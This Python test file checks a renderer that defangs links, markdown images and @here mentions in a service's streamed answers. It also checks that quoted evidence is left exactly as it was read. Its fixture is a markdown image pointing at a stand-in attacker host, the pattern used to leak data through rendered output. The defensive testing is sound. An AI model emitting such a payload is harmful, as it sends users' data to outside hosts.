"""What the service answers is safe to render: nothing in it links, loads or calls people by itself."""

from __future__ import annotations

from interlock.core.events import AnswerEvent, StatusEvent, TextEvent
from interlock.surfaces.http.rendered import rendered

PIXEL = "look: ![x](https://evil.example/?d=1) @here"


def test_a_link_that_comes_in_pieces_is_broken_all_the_same() -> None:
    pieces = [TextEvent(text=PIXEL[i : i + 3]) for i in range(0, len(PIXEL), 3)]
    said = list(
        rendered([StatusEvent(text="asking"), *pieces, TextEvent(text="\nnext"), AnswerEvent(answer={})], ())
    )
    words = "".join(event.text for event in said if isinstance(event, TextEvent))
    assert words == "look: ![x] (https[:]//evil.example/?d=1) (at)here\nnext"
    assert [event.type for event in said][-1] == "answer"


def test_the_answer_and_its_claims_are_safe_and_the_evidence_is_as_it_was_read() -> None:
    answer = {"answer": PIXEL, "claims": [{"text": PIXEL, "verified": True}], "evidence": [{"text": PIXEL}]}
    (event,) = rendered([AnswerEvent.model_validate({"answer": answer})], ("wiki.example",))
    assert isinstance(event, AnswerEvent)
    safe = "look: ![x] (https[:]//evil.example/?d=1) (at)here"
    assert event.answer == {
        "answer": safe,
        "claims": [{"text": safe, "verified": True}],
        "evidence": [{"text": PIXEL}],
    }
